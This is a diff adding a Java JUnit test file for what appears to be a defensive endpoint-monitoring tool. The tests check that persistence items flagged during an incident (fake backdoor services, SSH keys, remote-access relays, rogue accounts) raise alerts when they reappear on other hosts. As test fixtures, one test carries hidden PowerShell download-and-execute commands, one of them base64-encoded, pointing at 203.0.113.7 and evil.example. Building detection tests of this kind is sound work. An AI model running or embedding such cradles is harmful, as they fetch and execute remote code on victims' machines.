@@ -1,0 +1,641 @@
+package bzh.vigie.collector.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.collector.conclusion.Facts;
+import bzh.vigie.collector.detect.finding.Cards;
+import bzh.vigie.collector.detect.returns.Sweep;
+import bzh.vigie.collector.incident.Evictions;
+import bzh.vigie.collector.store.AgentId;
+import bzh.vigie.collector.store.Alerts.Alert;
+import bzh.vigie.collector.store.Alerts.Severity;
+import bzh.vigie.collector.store.Commune;
+import bzh.vigie.collector.store.IncidentId;
+import bzh.vigie.collector.store.Incidents.Interval;
+import bzh.vigie.collector.store.Scope;
+import bzh.vigie.collector.store.Specimens;
+import bzh.vigie.collector.store.Tombstones;
+import bzh.vigie.collector.store.Tombstones.Nature;
+import bzh.vigie.collector.store.Tombstones.Tombstone;
+import bzh.vigie.event.Account;
+import bzh.vigie.event.Event;
+import bzh.vigie.event.Event.Change;
+import bzh.vigie.event.Item;
+import bzh.vigie.event.ItemTimes;
+import bzh.vigie.event.Observed;
+import bzh.vigie.event.ProcessKey;
+import bzh.vigie.event.Sha256;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Set;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What was marked on one host, seen again on others, through the live pipeline and a real store. */
+final class ReturnsTest {
+    private static final Scope ALL = new Scope.All();
+    private static final Commune BREST = new Commune("29019");
+    private static final Commune ELSEWHERE = new Commune("56007");
+    private static final String KEY = "SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo";
+
+    @TempDir
+    Path folder;
+
+    private AgentId first = Specimens.agent(1);
+    private AgentId second = Specimens.agent(2);
+    private AgentId outside = Specimens.agent(3);
+    private IncidentId incident = IncidentId.of(2026, 1);
+
+    private interface Work {
+        void on(Line line) throws Exception;
+    }
+
+    private void with(Work work) throws Exception {
+        try (Line line = new Line(folder)) {
+            first = line.enrol(1, BREST);
+            second = line.enrol(2, Line.QUIMPER);
+            outside = line.enrol(3, ELSEWHERE);
+            incident = line.store
+                    .write(s -> s.incidents().open("x", Set.of(BREST, Line.QUIMPER), 90, Specimens.ANALYST))
+                    .id();
+            work.on(line);
+        }
+    }
+
+    @BeforeEach
+    void nothing() {
+        incident = IncidentId.of(2026, 1);
+    }
+
+    /** What an item has of its file, and of what it runs. */
+    private record File(String hash, String signer, Item.Signature signature, String imphash, String original) {
+        static final File NONE = new File("", "", Item.Signature.NOT_CHECKED, "", "");
+
+        static File unsigned(String content) {
+            return new File(content, "", Item.Signature.UNSIGNED, "", "");
+        }
+    }
+
+    private static Item windows(String location, String source, String name, String value, String target, File file) {
+        return new Item(
+                location,
+                List.of("T1543.003"),
+                "windows",
+                Optional.empty(),
+                name,
+                value,
+                source,
+                target,
+                file.hash().isEmpty() ? Optional.empty() : Optional.of(sha(file.hash())),
+                file.signer(),
+                file.signature(),
+                "",
+                Item.Shipped.UNKNOWN,
+                true,
+                ItemTimes.NONE,
+                List.of(),
+                "",
+                "",
+                file.imphash(),
+                "",
+                file.original(),
+                "",
+                Set.of());
+    }
+
+    private static Item service(String name, String command, String target, File file) {
+        return windows(
+                "windows.service",
+                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\" + name,
+                "ImagePath",
+                command + " (auto, LocalSystem)",
+                target,
+                file);
+    }
+
+    private static Sha256 sha(String content) {
+        return Sha256.over(content.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static final Item BACKDOOR = service(
+            "WinUpd", "C:\\ProgramData\\upd\\wu.exe -k 7", "C:\\ProgramData\\upd\\wu.exe", File.unsigned("backdoor"));
+
+    private Tombstone mark(Line line, AgentId host, Item item) {
+        return line.store
+                .write(s -> s.tombstones()
+                        .add(
+                                ALL,
+                                incident,
+                                s.hosts().find(host).orElseThrow().commune(),
+                                Optional.of(host),
+                                item.key(),
+                                Sweep.fields(item),
+                                Optional.empty(),
+                                Specimens.ANALYST))
+                .orElseThrow();
+    }
+
+    /** The item is on the first host and marked there. */
+    private Tombstone marked(Line line, Item item) throws Exception {
+        line.send(first, line.seen(Change.PRESENT, item));
+        return mark(line, first, item);
+    }
+
+    private static List<Alert> returns(Line line) {
+        return line.alerts().stream()
+                .filter(alert -> Tombstones.RULES.contains(alert.rule()))
+                .toList();
+    }
+
+    private static List<String> told(Line line) {
+        List<String> told = new ArrayList<>();
+        for (Alert alert : returns(line)) {
+            told.add(alert.rule().substring(6) + " " + alert.hostname() + " "
+                    + alert.evidence().getOrDefault("matched", "").replace('\n', ' '));
+        }
+        return told;
+    }
+
+    private static Event started(Line line, String image, String command, Optional<Sha256> hash) {
+        return new Event.ProcessStarted(
+                line.at(0),
+                "windows.trace",
+                new ProcessKey("boot-1", 42, 1),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.known(image),
+                Observed.known(command),
+                hash.map(Observed::known).orElseGet(() -> Observed.missed(Observed.Why.NOT_OFFERED)),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                false);
+    }
+
+    @Test
+    void theSameItemOnAnotherHostOfTheIncidentIsAReturnAndElsewhereIsNot() throws Exception {
+        with(line -> {
+            marked(line, BACKDOOR);
+            line.send(outside, line.seen(Change.ADDED, BACKDOOR));
+            assertEquals(List.of(), told(line));
+            line.send(second, line.seen(Change.ADDED, BACKDOOR));
+            assertEquals(1, returns(line).size());
+            Alert alert = returns(line).getFirst();
+            assertEquals("vigie-return", alert.rule());
+            assertEquals(Severity.CRITICAL, alert.severity());
+            assertEquals("2026-001-T1", alert.evidence().get("tombstone"));
+            assertEquals("undated", alert.evidence().get("eviction"));
+            assertTrue(alert.evidence().getOrDefault("matched", "").startsWith("item\nfile"), told(line)::toString);
+            AlertText french = AlertTexts.shipped().of(alert, Locale.FRENCH);
+            assertTrue(french.explanation().contains("le même élément, le même fichier"), french.explanation());
+            assertTrue(french.title().contains("2026-001-T1"), french.title());
+            AlertText english = AlertTexts.shipped().of(alert, Locale.ENGLISH);
+            assertTrue(english.explanation().contains("the same file (SHA-256)"), english.explanation());
+        });
+    }
+
+    @Test
+    void whatIsMarkedAndStaysIsNoReturnAndIsOneWhenItComesBack() throws Exception {
+        with(line -> {
+            marked(line, BACKDOOR);
+            line.send(first, line.seen(Change.PRESENT, BACKDOOR));
+            Item off = service("WinUpd", "C:\\ProgramData\\upd\\wu.exe -k 8", BACKDOOR.target(), File.unsigned("new"));
+            line.send(first, line.seen(Change.CHANGED, off));
+            line.send(first, line.seen(Change.NEWLY_VISIBLE, BACKDOOR), line.seen(Change.CHANGED, off));
+            assertEquals(List.of(), told(line));
+            line.send(first, line.seen(Change.REMOVED, off));
+            assertEquals(List.of(), told(line));
+            line.send(first, line.seen(Change.ADDED, BACKDOOR));
+            assertEquals(1, returns(line).size());
+        });
+    }
+
+    @Test
+    void theSameFileUnderAnyNameIsAReturnInItemsAndInPrograms() throws Exception {
+        with(line -> {
+            marked(line, BACKDOOR);
+            Item other = windows(
+                    "windows.run-key.machine",
+                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+                    "Sound",
+                    "D:\\x\\y.exe",
+                    "D:\\x\\y.exe",
+                    File.unsigned("backdoor"));
+            line.send(second, line.seen(Change.ADDED, other));
+            line.send(second, started(line, "C:\\Users\\a\\z.exe", "z.exe", Optional.of(sha("backdoor"))));
+            assertEquals(List.of("return pc-2 file", "return pc-2 file"), told(line));
+        });
+    }
+
+    @Test
+    void theSameKeyForAnotherAccountAndALogonWithItAreReturns() throws Exception {
+        with(line -> {
+            Item key = authorized("root", "/root/.ssh/authorized_keys", KEY + " kali");
+            marked(line, key);
+            line.send(second, line.seen(Change.ADDED, authorized("www", "/srv/www/.ssh/authorized_keys2", KEY)));
+            line.send(
+                    second,
+                    new Event.Logon(
+                            line.at(0),
+                            "linux.auth-log",
+                            Event.LogonAction.LOGON,
+                            Event.LogonType.SSH,
+                            new Account("1001", "claire"),
+                            Optional.empty(),
+                            "192.0.2.7",
+                            "",
+                            "publickey",
+                            KEY,
+                            Observed.missed(Observed.Why.NOT_OFFERED),
+                            ""));
+            assertEquals(List.of("return pc-2 ssh-key", "return pc-2 ssh-key"), told(line));
+        });
+    }
+
+    private static Item authorized(String account, String source, String comment) {
+        return Line.item(
+                "linux.ssh.authorized-keys",
+                source,
+                comment.split(" ", -1)[0],
+                "ssh-ed25519 256 " + comment,
+                Item.Shipped.UNKNOWN,
+                Optional.of(new Account("0", account)));
+    }
+
+    @Test
+    void theSameRelayOrTenantUnderAnotherProductIsAReturn() throws Exception {
+        with(line -> {
+            marked(
+                    line,
+                    windows(
+                            "windows.remote.service",
+                            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ScreenConnect Client (0123456789abcdef)",
+                            "screenconnect relay.mallory.example",
+                            "e=Access\ny=Guest\nh=relay.mallory.example\np=443\nk digest=f9f217bbe4f8",
+                            "C:\\Tools\\backup.exe",
+                            File.NONE));
+            line.send(
+                    second,
+                    line.seen(
+                            Change.ADDED,
+                            windows(
+                                    "windows.remote.tool-user",
+                                    "C:\\Users\\a\\AppData\\Roaming\\RustDesk\\config\\RustDesk2.toml",
+                                    "rustdesk relay.mallory.example:21116",
+                                    "rendezvous_server=relay.mallory.example:21116",
+                                    "",
+                                    File.NONE)));
+            assertEquals(List.of("return pc-2 remote-access"), told(line));
+            // The provider's own instance of the same product.
+            line.send(
+                    second,
+                    line.seen(
+                            Change.ADDED,
+                            windows(
+                                    "windows.remote.service",
+                                    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ScreenConnect Client (fedcba9876543210)",
+                                    "screenconnect aide.exemple.fr",
+                                    "e=Access\ny=Guest\nh=aide.exemple.fr\np=443\nk digest=0011223344aa",
+                                    "C:\\Program Files (x86)\\ScreenConnect Client (fedcba9876543210)\\ScreenConnect.ClientService.exe",
+                                    File.NONE)));
+            assertEquals(1, returns(line).size());
+        });
+    }
+
+    @Test
+    void theSameCommandWithOtherPathsAddressesAndEncodingIsSuspected() throws Exception {
+        with(line -> {
+            String plain =
+                    "powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"";
+            String shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+            marked(
+                    line,
+                    windows(
+                            "windows.task.definition",
+                            "C:\\Windows\\System32\\Tasks\\Maj",
+                            "\\Maj",
+                            plain + "; on logon; as S-1-5-18; highest rights",
+                            shell,
+                            new File("powershell", "Microsoft Windows", Item.Signature.VALID, "", "PowerShell.EXE")));
+            String script = "iex (new-object net.webclient).downloadstring('https://evil.example/b')";
+            String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
+            line.send(
+                    second,
+                    started(
+                            line,
+                            shell,
+                            "powershell -noprofile -windowstyle hidden -enc " + encoded,
+                            Optional.empty()));
+            assertEquals(List.of("suspected-return pc-2 command"), told(line));
+            assertEquals(Severity.HIGH, returns(line).getFirst().severity());
+            // The shell itself, and another use of it, say nothing.
+            line.send(
+                    second,
+                    started(
+                            line,
+                            shell,
+                            "powershell -NoProfile -File C:\\adm\\inventaire.ps1",
+                            Optional.of(sha("powershell"))));
+            assertEquals(1, returns(line).size());
+        });
+    }
+
+    @Test
+    void aSignerAloneNeverMatches() throws Exception {
+        with(line -> {
+            File signed = new File("evil", "Honest Software Ltd", Item.Signature.VALID, "aa".repeat(16), "tool.exe");
+            marked(line, service("A1", "C:\\A\\tool.exe --quiet --relay", "C:\\A\\tool.exe", signed));
+            File other = new File("fine", "Honest Software Ltd", Item.Signature.VALID, "aa".repeat(16), "tool.exe");
+            line.send(second, line.seen(Change.ADDED, service("Zz", "C:\\B\\tool.exe", "C:\\B\\tool.exe", other)));
+            assertEquals(List.of(), told(line));
+        });
+    }
+
+    @Test
+    void theSameImportsOrOriginalNameUnderAnotherNameAreSuspected() throws Exception {
+        with(line -> {
+            File file = new File("one", "", Item.Signature.UNSIGNED, "ab".repeat(16), "loader.exe");
+            marked(line, service("A1", "C:\\A\\a.exe", "C:\\A\\a.exe", file));
+            File other = new File("two", "", Item.Signature.UNSIGNED, "ab".repeat(16), "loader.exe");
+            line.send(second, line.seen(Change.ADDED, service("Q7", "E:\\q.exe --go", "E:\\q.exe", other)));
+            assertEquals(List.of("suspected-return pc-2 imports original-name"), told(line));
+            assertEquals("80", returns(line).getFirst().evidence().get("score"));
+        });
+    }
+
+    @Test
+    void anAccountIsKnownAgainByItsNameOrItsSid() throws Exception {
+        with(line -> {
+            Item account = windows(
+                    "windows.account.local",
+                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EB",
+                    "svc_maint",
+                    "RID 1003; administrator",
+                    "",
+                    File.NONE);
+            marked(line, account);
+            line.send(
+                    second,
+                    line.seen(
+                            Change.ADDED,
+                            windows(
+                                    "windows.account.local",
+                                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003F2",
+                                    "SVC_maint",
+                                    "RID 1010",
+                                    "",
+                                    File.NONE)));
+            line.send(
+                    first,
+                    line.seen(
+                            Change.ADDED,
+                            windows(
+                                    "windows.account.local",
+                                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EB",
+                                    "helpdesk",
+                                    "RID 1003; administrator",
+                                    "",
+                                    File.NONE)));
+            assertEquals(
+                    List.of("suspected-return pc-2 account-name", "suspected-return pc-1 account-sid"), told(line));
+            // Another host's account of the same RID is nobody's.
+            line.send(
+                    second,
+                    line.seen(
+                            Change.ADDED,
+                            windows(
+                                    "windows.account.local",
+                                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EC",
+                                    "accueil",
+                                    "RID 1003",
+                                    "",
+                                    File.NONE)));
+            assertEquals(2, returns(line).size());
+        });
+    }
+
+    @Test
+    void membersOfOneGroupAreNotOneAnother() throws Exception {
+        with(line -> {
+            marked(line, member("S-1-5-21-1004336348-1177238915-682003330-1001"));
+            line.send(second, line.seen(Change.ADDED, member("S-1-5-21-1004336348-1177238915-682003330-1777")));
+            assertEquals(List.of(), told(line));
+            line.send(second, line.seen(Change.ADDED, member("S-1-5-21-1004336348-1177238915-682003330-1001")));
+            assertEquals(List.of("return pc-2 item account"), told(line));
+            line.send(
+                    second,
+                    new Event.AccountChange(
+                            line.at(0),
+                            "windows.log",
+                            Event.AccountAction.CHANGED,
+                            new Account("S-1-5-21-1004336348-1177238915-682003330-1001", "MAIRIE\\svc"),
+                            Optional.empty(),
+                            Optional.empty(),
+                            ""));
+            assertEquals(List.of("return pc-2 item account", "return pc-2 account"), told(line));
+        });
+    }
+
+    private static Item member(String sid) {
+        return windows(
+                "windows.account.group",
+                "HKLM\\SAM\\SAM\\Domains\\Builtin\\Aliases\\00000220",
+                "Administrators: " + sid,
+                sid,
+                "",
+                File.NONE);
+    }
+
+    @Test
+    void theSystemsOwnProgramAtAMarkedPlaceIsNoReturn() throws Exception {
+        with(line -> {
+            marked(line, service("Spooler", "C:\\Temp\\evil.exe", "C:\\Temp\\evil.exe", File.unsigned("evil")));
+            Item mended = service(
+                    "Spooler",
+                    "C:\\Windows\\System32\\spoolsv.exe",
+                    "C:\\Windows\\System32\\spoolsv.exe",
+                    new File("spoolsv", "Microsoft Windows", Item.Signature.VALID, "", "spoolsv.exe"));
+            line.send(second, line.seen(Change.CHANGED, mended));
+            line.send(first, line.seen(Change.CHANGED, mended));
+            assertEquals(List.of(), told(line));
+            line.send(
+                    second,
+                    line.seen(
+                            Change.CHANGED,
+                            service("Spooler", "C:\\Temp\\q.exe", "C:\\Temp\\q.exe", File.unsigned("another"))));
+            assertEquals(List.of("suspected-return pc-2 place"), told(line));
+        });
+    }
+
+    @Test
+    void aReplayTellsNothingTwice() throws Exception {
+        with(line -> {
+            marked(line, BACKDOOR);
+            line.send(second, line.seen(Change.ADDED, BACKDOOR));
+            line.send(second, started(line, BACKDOOR.target(), "wu.exe", Optional.of(sha("backdoor"))));
+            Map<String, Integer> before = line.counts();
+            Line.drain(line.pipeline(line.store));
+            assertEquals(before, line.counts());
+        });
+    }
+
+    @Test
+    void aMarkThatIsTakenBackIsSilentAndOneSetMeanwhileIsHeard() throws Exception {
+        with(line -> {
+            Tombstone tombstone = marked(line, BACKDOOR);
+            line.store.change(
+                    s -> s.tombstones().line(ALL, tombstone.id(), false, Optional.empty(), Specimens.ANALYST));
+            line.send(second, line.seen(Change.ADDED, BACKDOOR));
+            assertEquals(List.of(), told(line));
+            line.store.change(s -> s.tombstones().line(ALL, tombstone.id(), true, Optional.empty(), Specimens.ANALYST));
+            line.send(second, line.seen(Change.REMOVED, BACKDOOR), line.seen(Change.ADDED, BACKDOOR));
+            assertEquals(1, returns(line).size());
+        });
+    }
+
+    @Test
+    void whatIsThereAfterItsDateWasNotRemovedOnlyOnceAReadingSaysSo() throws Exception {
+        with(line -> {
+            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
+            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
+            mark(line, first, item);
+            Instant end = line.now.plus(Duration.ofHours(2));
+            line.store.change(s -> s.incidents()
+                    .eviction(
+                            ALL,
+                            incident,
+                            Optional.empty(),
+                            Optional.of(new Interval(line.now, Optional.of(end))),
+                            Specimens.ANALYST));
+            line.now = end.plus(Duration.ofMinutes(1));
+            line.pipeline.tick(line.now);
+            assertEquals(List.of(), told(line));
+            line.now = end.plus(Duration.ofHours(1));
+            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
+            for (int minutes = 0; minutes < 60; minutes += 10) {
+                line.pipeline.tick(line.now.plus(Duration.ofMinutes(minutes)));
+            }
+            line.pipeline(line.store).tick(line.now.plus(Duration.ofHours(3)));
+            assertEquals(List.of("not-removed pc-1 "), told(line));
+            assertEquals(1, returns(line).getFirst().count());
+            assertEquals("after", returns(line).getFirst().evidence().get("eviction"));
+        });
+    }
+
+    @Test
+    void whatIsSweptIsFoundOnceWithItsPlaceAgainstTheEviction() throws Exception {
+        with(line -> {
+            line.send(second, line.seen(Change.PRESENT, BACKDOOR));
+            line.now = line.now.plus(Duration.ofDays(1));
+            Tombstone tombstone = marked(line, BACKDOOR);
+            line.store.change(s -> s.incidents()
+                    .eviction(
+                            ALL,
+                            incident,
+                            Optional.empty(),
+                            Optional.of(new Interval(line.now.minusSeconds(60), Optional.of(line.now))),
+                            Specimens.ANALYST));
+            Cards cards = new Cards(ShippedRules.load().cards());
+            Sweep.Result result = new Sweep(line.store, line.now)
+                    .of(
+                            tombstone,
+                            List.of(BREST, Line.QUIMPER),
+                            List.of(tombstone),
+                            Evictions.of(line.store.read(s -> s.incidents().evictions(ALL, incident))),
+                            cards);
+            assertEquals(
+                    List.of(second),
+                    result.found().stream().map(each -> each.host().id()).toList());
+            assertTrue(result.found().getFirst().sure());
+            for (int twice = 0; twice < 2; twice++) {
+                result.found().forEach(found -> line.store.change(s -> Raising.raise(s, found.finding())));
+            }
+            assertEquals("before", returns(line).getFirst().evidence().get("eviction"));
+            assertEquals(1, returns(line).size());
+        });
+    }
+
+    @Test
+    void theNatureThatIsSaidIsWhatAConclusionRestsOn() throws Exception {
+        with(line -> {
+            line.store.change(s -> s.incidents()
+                    .eviction(
+                            ALL,
+                            incident,
+                            Optional.empty(),
+                            Optional.of(
+                                    new Interval(line.now.minusSeconds(60), Optional.of(line.now.minusSeconds(30)))),
+                            Specimens.ANALYST));
+            marked(line, BACKDOOR);
+            line.send(second, line.seen(Change.ADDED, BACKDOOR));
+            String alert = returns(line).getFirst().id();
+            assertEquals(List.of(Optional.empty()), natures(line));
+            for (Nature nature : Nature.values()) {
+                line.store.change(s -> s.tombstones().nature(ALL, alert, nature, Specimens.ANALYST));
+                assertEquals(
+                        List.of(Optional.of(nature.name())),
+                        natures(line),
+                        "the conclusion knows every nature by its name");
+            }
+        });
+    }
+
+    private List<Optional<String>> natures(Line line) {
+        return line
+                .store
+                .read(s -> Facts.of(s, ALL, s.incidents().find(ALL, incident).orElseThrow(), line.now.plusSeconds(60)))
+                .recurrences()
+                .stream()
+                .map(each -> each.nature().map(Enum::name))
+                .toList();
+    }
+
+    @Test
+    void aNatureIsSaidOfARecurrenceAndOfNothingElse() throws Exception {
+        with(line -> {
+            marked(line, BACKDOOR);
+            line.send(second, line.seen(Change.ADDED, BACKDOOR));
+            String alert = returns(line).getFirst().id();
+            Scope quimper = new Scope.Communes(Set.of(Line.QUIMPER));
+            Scope brest = new Scope.Communes(Set.of(BREST));
+            assertFalse(line.store.<Boolean>write(
+                    s -> s.tombstones().nature(brest, alert, Nature.RESTORED, Specimens.ANALYST)));
+            for (Nature nature : List.of(Nature.RESTORED, Nature.RETURNED)) {
+                assertTrue(line.store.<Boolean>write(
+                        s -> s.tombstones().nature(quimper, alert, nature, Specimens.ANALYST)));
+            }
+            var recurrences = line.store.read(s -> s.tombstones().recurrences(quimper, incident));
+            assertEquals(
+                    List.of(Nature.RETURNED),
+                    recurrences.stream()
+                            .map(each -> each.nature().orElseThrow().nature())
+                            .toList());
+            assertEquals(
+                    2, line.store.read(s -> s.tombstones().natures(ALL, alert)).size());
+            assertEquals(List.of(), line.store.read(s -> s.tombstones().recurrences(brest, incident)));
+            assertEquals(
+                    List.of("recurrence-restored", "recurrence-returned"),
+                    line.store.read(s -> s.audit().about(alert)).stream()
+                            .map(each -> each.action())
+                            .toList());
+            String other = line.alerts().stream()
+                    .filter(each -> !Tombstones.RULES.contains(each.rule()))
+                    .findFirst()
+                    .map(Alert::id)
+                    .orElse("none");
+            assertFalse(line.store.<Boolean>write(
+                    s -> s.tombstones().nature(ALL, other, Nature.RESTORED, Specimens.ANALYST)));
+        });
+    }
+}
